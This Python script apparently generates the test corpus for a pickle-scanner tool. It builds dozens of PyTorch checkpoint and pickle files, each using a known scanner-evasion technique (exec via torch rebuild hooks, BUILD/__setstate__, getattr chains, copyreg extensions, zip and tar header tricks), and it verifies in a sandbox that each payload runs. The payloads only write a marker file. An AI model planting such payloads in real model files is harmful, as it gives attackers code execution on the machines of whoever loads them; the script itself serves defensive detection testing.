"""Write one file per known way around pickle scanners, and check with real PyTorch that
each payload runs.

Usage: make_attacks.py OUT_DIR

Every case is loaded the way it targets (`torch.load(path, weights_only=False)` or
`pickle.loads`) in its own process (forked from one that imported torch once, so the
generator takes seconds) whose working folder is a new, empty temporary folder holding
only a copy of the file (the sandbox). Each payload only creates a marker in that folder
(`tvck-pwned.txt` through `builtins.open`/`exec`, or the folder `tvck-pwned` through
`os.makedirs`); a case has executed when anything new appears in its sandbox. A case that
should execute and does not is a generator bug: exit 1.

OUT_DIR/manifest.json lists, per file: the case, its technique, what tvck's findings must
name (`names`: the global or the trick), the loader it targets, and `executed` (true), or,
for the few classes torch cannot be made to execute, `executed: false` and `skipped`
("not executable under torch 2.13: reason"). tests/it/attack_corpus.rs runs tvck on them.
"""

import collections
import io
import json
import os
import pickle
import shutil
import struct
import sys
import tarfile
import tempfile
import warnings
import zipfile

import numpy as np
import torch

warnings.simplefilter("ignore")

MARKER = "tvck-pwned.txt"
MARKER_DIR = "tvck-pwned"
CODE = f"open({MARKER!r}, 'w').write('pwned')"


class Payload:
    """exec(CODE) when unpickled."""

    def __reduce__(self):
        return (exec, (CODE,))


def u(s):
    """SHORT_BINUNICODE / BINUNICODE of `s`."""
    b = s.encode()
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def exec_ops():
    """Opcodes pushing the value of exec(CODE) (no PROTO, no STOP)."""
    return b"cbuiltins\nexec\n(" + u(CODE) + b"tR"


def p2(ops):
    return b"\x80\x02" + ops + b"."


# ----- torch.save-shaped archives ---------------------------------------------------


def zip_of(entries, **kw):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries:
            if isinstance(name, zipfile.ZipInfo):
                z.writestr(name, data)
            else:
                with z.open(name, "w", **kw) as f:
                    f.write(data)
    return b.getvalue()


def torch_zip(data_pkl, **kw):
    return zip_of([("archive/data.pkl", data_pkl), ("archive/byteorder", b"little"),
                   ("archive/version", b"3\n")], **kw)


def benign():
    return pickle.dumps({"epoch": 1}, protocol=2)


def saved(obj):
    b = io.BytesIO()
    torch.save(obj, b)
    return b.getvalue()


def shift_zip(z, base):
    """The archive `z` with its directory's offsets moved by `base` bytes (for bytes put
    in front of it)."""
    z = bytearray(z)
    e = z.rfind(b"PK\x05\x06")
    cd_size, cd_off = struct.unpack_from("<II", z, e + 12)
    p = cd_off
    while p < cd_off + cd_size:
        lho = struct.unpack_from("<I", z, p + 42)[0]
        struct.pack_into("<I", z, p + 42, lho + base)
        n, x, c = struct.unpack_from("<HHH", z, p + 28)
        p += 46 + n + x + c
    struct.pack_into("<I", z, e + 16, cd_off + base)
    return bytes(z)


# ----- callables reached through allow-listed reconstructors -----------------------


class RebuildWithHooks:
    """_rebuild_tensor_v2(storage, 0, (2,), (1,), False, OrderedDict(h=<payload>))."""

    def __reduce__(self):
        t = torch.zeros(2)
        return (torch._utils._rebuild_tensor_v2,
                (t._typed_storage(), 0, (2,), (1,), False, collections.OrderedDict(h=Payload())))


def case_rebuild_tensor_v2_hooks():
    return saved({"w": RebuildWithHooks()})


class ParameterWithHooks:
    def __reduce__(self):
        return (torch._utils._rebuild_parameter,
                (torch.zeros(2), False, collections.OrderedDict(h=Payload())))


def case_rebuild_parameter_hooks():
    return saved({"w": ParameterWithHooks()})


class FromTypeExec:
    """_rebuild_from_type_v2(func=exec, Tensor, (CODE,), {}): torch calls func(*args)."""

    def __reduce__(self):
        return (torch._tensor._rebuild_from_type_v2, (exec, torch.Tensor, (CODE,), {}))


def case_rebuild_from_type_v2_func():
    return saved({"w": FromTypeExec()})


def case_ordereddict_items():
    return saved(collections.OrderedDict(w=torch.zeros(2), h=Payload()))


def case_numpy_object_array():
    a = np.empty(1, dtype=object)
    a[0] = Payload()
    return saved({"a": a})


class Reconstructed:
    """copyreg._reconstructor(OrderedDict, object, <payload>), as protocol 0/1 write it."""

    def __reduce__(self):
        import copyreg
        return (copyreg._reconstructor, (collections.OrderedDict, object, Payload()))


def case_copyreg_reconstructor():
    return pickle.dumps(Reconstructed(), protocol=1)


# ----- BUILD / __setstate__ on allowed classes ---------------------------------------


def case_build_setstate_ordereddict():
    """An OrderedDict; BUILD with slot state {'__setstate__': exec}; BUILD CODE: the
    second BUILD calls od.__setstate__(CODE), i.e. exec(CODE)."""
    ops = (b"ccollections\nOrderedDict\n)R"
           + b"N}" + u("__setstate__") + b"cbuiltins\nexec\ns\x86b"
           + u(CODE) + b"b")
    return torch_zip(p2(ops))


def case_build_setstate_namespace():
    """argparse.Namespace(); BUILD {'__setstate__': exec} (into its __dict__); BUILD CODE."""
    ops = (b"cargparse\nNamespace\n)R"
           + b"}" + u("__setstate__") + b"cbuiltins\nexec\nsb"
           + u(CODE) + b"b")
    return torch_zip(p2(ops))


# ----- INST / OBJ, the extension registry, persistent ids ---------------------------


def case_inst():
    return b"(V" + CODE.encode() + b"\nibuiltins\nexec\n."


def case_obj():
    return b"\x80\x02(cbuiltins\nexec\n" + u(CODE) + b"o."


def case_ext_registry():
    """copyreg.add_extension('builtins', 'exec', 0x4747), then EXT2 0x4747 (CODE,) REDUCE."""
    ops = (b"ccopyreg\nadd_extension\n(" + u("builtins") + u("exec") + b"M\x47\x47tR0"
           + b"\x83\x47\x47(" + u(CODE) + b"tR")
    return torch_zip(p2(ops))


def case_persistent_id():
    """A persistent id tuple ('storage', <payload>, ...) in data.pkl: its items are
    unpickled before torch's persistent_load looks at them."""
    ops = b"(" + u("storage") + exec_ops() + u("0") + u("cpu") + b"K\x02tQ"
    return torch_zip(p2(ops))


def case_persistent_id_text():
    """A legacy pickle whose PERSID (protocol 0 text) follows a payload."""
    return b"(" + exec_ops() + b"0Pstorage\n."


# ----- protocol 0 text opcodes ---------------------------------------------------------


def case_protocol0_text():
    """__builtin__.eval through the text memo (PUT/GET), a UNICODE argument."""
    return (b"c__builtin__\neval\np0\n0g0\n(Vopen('tvck-pwned.txt','w')\np1\ntp2\nRp3\n.")


def case_protocol0_escaped_stack_global():
    """Module and name given as protocol 0 STRINGs with backslash escapes, then
    STACK_GLOBAL (the unpickler takes any opcode whatever the protocol)."""
    return (b"S'b\\x75iltins'\nS'e\\x78ec'\n\x93(V" + CODE.encode() + b"\ntR.")


# ----- getattr chains and module spellings ----------------------------------------------


def case_getattr_chain():
    """getattr(getattr(torch.serialization, 'os'), 'makedirs')('tvck-pwned')."""
    ops = (b"cbuiltins\ngetattr\n(cbuiltins\ngetattr\n(ctorch\nserialization\n" + u("os")
           + b"tR" + u("makedirs") + b"tR(" + u(MARKER_DIR) + b"tR")
    return torch_zip(p2(ops))


def case_dotted_name_torch_serialization():
    """Protocol 4 STACK_GLOBAL('torch.serialization', 'os.makedirs'): find_class walks the
    dotted name."""
    ops = u("torch.serialization") + u("os.makedirs") + b"\x93" + u(MARKER_DIR) + b"\x85R"
    return torch_zip(b"\x80\x04" + ops + b".")


def case_torch_utils_import_dotted_name():
    """torch._utils._import_dotted_name('os.makedirs')('tvck-pwned')."""
    ops = (b"ctorch._utils\n_import_dotted_name\n(" + u("os.makedirs") + b"tR("
           + u(MARKER_DIR) + b"tR")
    return torch_zip(p2(ops))


def case_torch_hub():
    """torch.hub.download_url_to_file('file:///dev/null', 'tvck-pwned.txt')."""
    ops = (b"ctorch.hub\ndownload_url_to_file\n(" + u("file:///dev/null") + u(MARKER)
           + b"NI00\ntR")
    return torch_zip(p2(ops))


def case_py2_builtin_spelling():
    """`__builtin__` (Python 2's name, mapped by fix_imports under protocol < 3)."""
    return torch_zip(p2(b"c__builtin__\nexec\n(" + u(CODE) + b"tR"))


def case_unicode_lookalike_module():
    """`cоllections.OrderedDict` with a Cyrillic о: imported as written (no such module)."""
    return torch_zip(p2("cc\u043ellections\nOrderedDict\n)R".encode()))


# ----- zip tricks ------------------------------------------------------------------------


def case_zip_duplicate_names():
    """Two `archive/data.pkl` entries: the payload first (torch's reader takes it), a
    benign one second (what readers that keep the last name see)."""
    return zip_of([("archive/data.pkl", pickle.dumps(Payload(), 2)), ("archive/data.pkl", benign()),
                   ("archive/byteorder", b"little"), ("archive/version", b"3\n")])


def case_zip_local_header_mismatch():
    """The central directory's `archive/data.pkl` points at a local header named
    `archive/zzzz.pkl` that holds the payload; a benign local `archive/data.pkl` (which
    the directory names `archive/note.txt`) comes first for readers that walk local
    headers."""
    z = bytearray(zip_of([("archive/data.pkl", benign()),
                          ("archive/zzzz.pkl", pickle.dumps(Payload(), 2)),
                          ("archive/byteorder", b"little"), ("archive/version", b"3\n")]))
    e = z.rfind(b"PK\x05\x06")
    cd_off = struct.unpack_from("<I", z, e + 16)[0]
    cd = bytes(z[cd_off:])
    cd = cd.replace(b"archive/data.pkl", b"archive/note.txt", 1)
    cd = cd.replace(b"archive/zzzz.pkl", b"archive/data.pkl", 1)
    z[cd_off:] = cd
    return bytes(z)


class Unseekable(io.RawIOBase):
    def __init__(self):
        self.buf = bytearray()

    def writable(self):
        return True

    def write(self, b):
        self.buf += b
        return len(b)


def case_zip_data_descriptor():
    """Entries whose sizes and CRC follow the data (flag bit 3; local header sizes 0)."""
    out = Unseekable()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for name, data in [("archive/data.pkl", pickle.dumps(Payload(), 2)),
                           ("archive/byteorder", b"little"), ("archive/version", b"3\n")]:
            z.writestr(name, data)
    data = bytes(out.buf)
    assert struct.unpack_from("<H", data, 6)[0] & 8, "no data descriptor"
    return data


def case_zip_junk_prefix_pickle():
    """A payload pickle, then a benign torch archive: the file does not start with PK, so
    torch unpickles it from byte 0."""
    return pickle.dumps(Payload(), 2) + shift_zip(torch_zip(benign()), 0)


def case_zip_junk_prefix_pk():
    """A stray local header signature and junk in front of the archive, whose directory's
    offsets point past them."""
    junk = b"PK\x03\x04" + b"\x00" * 60
    return junk + shift_zip(torch_zip(pickle.dumps(Payload(), 2)), len(junk))


def case_zip_nested_archive():
    """A payload checkpoint stored as an entry of a benign-looking zip."""
    inner = torch_zip(pickle.dumps(Payload(), 2))
    return zip_of([("model/inner.pt", inner), ("model/README", b"weights inside\n")])


def case_zip_symlink_entry():
    """`archive/data.pkl` marked as a symbolic link (unix mode 0o120777); its bytes are the
    payload."""
    info = zipfile.ZipInfo("archive/data.pkl")
    info.create_system = 3
    info.external_attr = (0o120777 << 16)
    return zip_of([(info, pickle.dumps(Payload(), 2)), ("archive/byteorder", b"little"),
                   ("archive/version", b"3\n")])


def case_zip64():
    """Every entry with ZIP64 extra fields."""
    data = torch_zip(pickle.dumps(Payload(), 2), force_zip64=True)
    assert b"\x01\x00" in data
    return data


# ----- legacy tar tricks -------------------------------------------------------------


def tar_bytes(members):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:", format=tarfile.USTAR_FORMAT) as tar:
        for m in members:
            if isinstance(m, tarfile.TarInfo):
                tar.addfile(m)
            else:
                name, data = m
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return b.getvalue()


def empty_storages():
    return pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)


def case_tar_symlink_member():
    """Member `pickle` is a symbolic link to member `x`, the payload: tar.extractfile
    follows links inside the archive."""
    link = tarfile.TarInfo("pickle")
    link.type = tarfile.SYMTYPE
    link.linkname = "x"
    return tar_bytes([("sys_info", pickle.dumps({"little_endian": True}, 2)),
                      ("storages", empty_storages()), ("tensors", pickle.dumps(0, 2)),
                      ("x", pickle.dumps(Payload(), 2)), link])


def case_tar_hardlink_member():
    """Member `storages` is a hard link to member `s`, the payload: tar.extract writes the
    target's bytes."""
    link = tarfile.TarInfo("storages")
    link.type = tarfile.LNKTYPE
    link.linkname = "s"
    return tar_bytes([("s", pickle.dumps(Payload(), 2)), link, ("tensors", pickle.dumps(0, 2)),
                      ("pickle", benign())])


def case_tar_pax_name():
    """A benign `pickle`, then a member whose ustar name is `decoy` but whose PAX header
    renames it `pickle` (the last of a name wins)."""
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in [("storages", empty_storages()), ("tensors", pickle.dumps(0, 2)),
                           ("pickle", benign())]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    ustar = b.getvalue().rstrip(b"\x00")
    ustar = ustar + b"\x00" * (-len(ustar) % 512)
    p = io.BytesIO()
    with tarfile.open(fileobj=p, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        payload = pickle.dumps(Payload(), 2)
        info = tarfile.TarInfo("decoy")
        info.size = len(payload)
        info.pax_headers = {"path": "pickle"}
        tar.addfile(info, io.BytesIO(payload))
    return ustar + p.getvalue()


def case_tar_ustar_prefix():
    """The payload `pickle`, then a benign member whose name field says `pickle` and whose
    ustar prefix field says `x` (so its name is `x/pickle`)."""
    data = tar_bytes([("storages", empty_storages()), ("tensors", pickle.dumps(0, 2)),
                      ("pickle", pickle.dumps(Payload(), 2)), ("pickle", benign())])
    data = bytearray(data)
    # The fourth header: after three members of one data block each.
    at = 3 * 1024
    assert data[at:at + 6] == b"pickle"
    data[at + 345] = ord("x")
    data[at + 148:at + 156] = b"        "
    chk = sum(data[at:at + 512])
    data[at + 148:at + 156] = b"%06o\x00 " % chk
    return bytes(data)


# name: (maker, technique, names tvck must name, loader, skipped reason or None)
CASES = {
    "rebuild_tensor_v2_hooks.pt": (case_rebuild_tensor_v2_hooks,
                                   "callable in the backward_hooks argument of torch._utils._rebuild_tensor_v2",
                                   ["builtins.exec"], "torch", None),
    "rebuild_parameter_hooks.pt": (case_rebuild_parameter_hooks,
                                   "callable in the hooks argument of torch._utils._rebuild_parameter",
                                   ["builtins.exec"], "torch", None),
    "rebuild_from_type_v2_func.pt": (case_rebuild_from_type_v2_func,
                                     "torch._tensor._rebuild_from_type_v2 whose func is exec",
                                     ["builtins.exec"], "torch", None),
    "ordereddict_items.pt": (case_ordereddict_items, "callable among the items of an OrderedDict",
                             ["builtins.exec"], "torch", None),
    "numpy_object_array.pt": (case_numpy_object_array,
                              "numpy _reconstruct of an object-dtype array whose items are a payload",
                              ["builtins.exec"], "torch", None),
    "copyreg_reconstructor.pth": (case_copyreg_reconstructor,
                                  "copyreg._reconstructor whose state is a payload",
                                  ["builtins.exec"], "pickle", None),
    "build_setstate_ordereddict.pt": (case_build_setstate_ordereddict,
                                      "BUILD slot state sets __setstate__ = exec on an OrderedDict, a second BUILD calls it",
                                      ["builtins.exec"], "torch", None),
    "build_setstate_namespace.pt": (case_build_setstate_namespace,
                                    "BUILD dict state sets __setstate__ = exec on an argparse.Namespace, a second BUILD calls it",
                                    ["builtins.exec"], "torch", None),
    "inst.pth": (case_inst, "INST opcode (protocol 0 class call)", ["builtins.exec"], "torch", None),
    "obj.pth": (case_obj, "OBJ opcode", ["builtins.exec"], "torch", None),
    "ext_registry.pt": (case_ext_registry,
                        "copyreg.add_extension, then EXT2 of the registered code",
                        ["copyreg.add_extension", "copyreg extension code 18247"], "torch", None),
    "persistent_id.pt": (case_persistent_id, "payload inside a persistent id tuple",
                         ["builtins.exec"], "torch", None),
    "persistent_id_text.pth": (case_persistent_id_text, "payload before a protocol 0 PERSID",
                               ["builtins.exec"], "torch", None),
    "protocol0_text.pth": (case_protocol0_text,
                           "protocol 0 text opcodes: GLOBAL __builtin__.eval, PUT/GET, UNICODE",
                           ["builtins.eval"], "pickle", None),
    "protocol0_escaped_stack_global.pth": (case_protocol0_escaped_stack_global,
                                           "STACK_GLOBAL of protocol 0 STRINGs with \\x escapes",
                                           ["builtins.exec"], "torch", None),
    "getattr_chain.pt": (case_getattr_chain,
                         "builtins.getattr chain: torch.serialization → os → makedirs",
                         ["builtins.getattr", "torch.serialization"], "torch", None),
    "dotted_name_torch_serialization.pt": (case_dotted_name_torch_serialization,
                                           "protocol 4 dotted name torch.serialization + os.makedirs",
                                           ["torch.serialization.os.makedirs"], "torch", None),
    "torch_utils_import_dotted_name.pt": (case_torch_utils_import_dotted_name,
                                          "torch._utils function outside the allow-list (_import_dotted_name)",
                                          ["torch._utils._import_dotted_name"], "torch", None),
    "torch_hub.pt": (case_torch_hub, "torch.hub.download_url_to_file (a torch sub-module)",
                     ["torch.hub.download_url_to_file"], "torch", None),
    "py2_builtin_spelling.pt": (case_py2_builtin_spelling,
                                "module spelled __builtin__ (mapped to builtins)",
                                ["builtins.exec"], "torch", None),
    "unicode_lookalike_module.pt": (case_unicode_lookalike_module,
                                    "look-alike Unicode module name (Cyrillic о in collections)",
                                    ["c\u043ellections.OrderedDict"], "torch",
                                    "not executable under torch 2.13: find_class imports the name as "
                                    "written (no NFKC or confusable folding), and no such module exists"),
    "zip_duplicate_names.pt": (case_zip_duplicate_names,
                               "two zip entries named archive/data.pkl, different contents",
                               ["differ only in case (or not at all)", "builtins.exec"], "torch", None),
    "zip_local_header_mismatch.pt": (case_zip_local_header_mismatch,
                                     "central directory names disagree with the local headers",
                                     ["central directory and local header disagree", "builtins.exec"],
                                     "torch", None),
    "zip_data_descriptor.pt": (case_zip_data_descriptor, "zip data descriptors (flag bit 3)",
                               ["builtins.exec"], "torch", None),
    "zip_junk_prefix_pickle.pt": (case_zip_junk_prefix_pickle,
                                  "payload pickle in front of a benign archive",
                                  ["builtins.exec"], "torch", None),
    "zip_junk_prefix_pk.pt": (case_zip_junk_prefix_pk,
                              "junk (starting PK\\x03\\x04) in front of the archive",
                              ["builtins.exec"], "torch", None),
    "zip_nested_archive.pt": (case_zip_nested_archive,
                              "payload checkpoint stored inside another zip",
                              ["zip archive without a data.pkl"], "torch",
                              "not executable under torch 2.13: torch.load reads the outer "
                              "directory only (its first entry's folder + data.pkl) and never "
                              "opens an archive stored in an entry"),
    "zip_symlink_entry.pt": (case_zip_symlink_entry, "data.pkl marked as a symbolic link",
                             ["builtins.exec"], "torch", None),
    "zip64.pt": (case_zip64, "ZIP64 extra fields on every entry", ["builtins.exec"], "torch", None),
    "tar_symlink_member.pt": (case_tar_symlink_member,
                              "legacy tar: member pickle is a symbolic link to the payload member",
                              ["tar member `pickle`", "builtins.exec"], "torch", None),
    "tar_hardlink_member.pt": (case_tar_hardlink_member,
                               "legacy tar: member storages is a hard link to the payload member",
                               ["tar member `s`", "builtins.exec"], "torch", None),
    "tar_pax_name.pt": (case_tar_pax_name, "legacy tar: a PAX path record renames the payload member to pickle",
                        ["tar member `pickle`", "builtins.exec"], "torch", None),
    "tar_ustar_prefix.pt": (case_tar_ustar_prefix,
                            "legacy tar: a ustar prefix turns the last `pickle` into `x/pickle`",
                            ["tar member `pickle`", "builtins.exec"], "torch", None),
}

LOADERS = {
    "torch": lambda p: torch.load(p, weights_only=False),
    "pickle": lambda p: pickle.loads(open(p, "rb").read()),
}


def executes(path, loader):
    """Load a copy of `path` in a forked child inside an empty temp folder; whether
    anything new appeared there."""
    with tempfile.TemporaryDirectory() as sandbox:
        name = os.path.basename(path)
        shutil.copy(path, os.path.join(sandbox, name))
        pid = os.fork()
        if pid == 0:
            code = 0
            try:
                os.chdir(sandbox)
                devnull = os.open(os.devnull, os.O_WRONLY)
                os.dup2(devnull, 1)
                os.dup2(devnull, 2)
                LOADERS[loader](name)
            except BaseException:
                code = 3
            os._exit(code)
        os.waitpid(pid, 0)
        return sorted(set(os.listdir(sandbox)) - {name}) != []


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    manifest = {}
    failed = []
    for name, (make, technique, names, loader, skipped) in CASES.items():
        path = os.path.join(out, name)
        with open(path, "wb") as f:
            f.write(make())
        ran = executes(path, loader)
        if ran != (skipped is None):
            failed.append(f"{name} (executed: {ran})")
        entry = {"case": make.__name__.removeprefix("case_"), "technique": technique,
                 "names": names, "loader": loader, "executed": ran}
        if skipped:
            entry["skipped"] = skipped
        manifest[name] = entry
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, ensure_ascii=False)
    if failed:
        print("cases whose payload did not behave as declared:", ", ".join(failed), file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
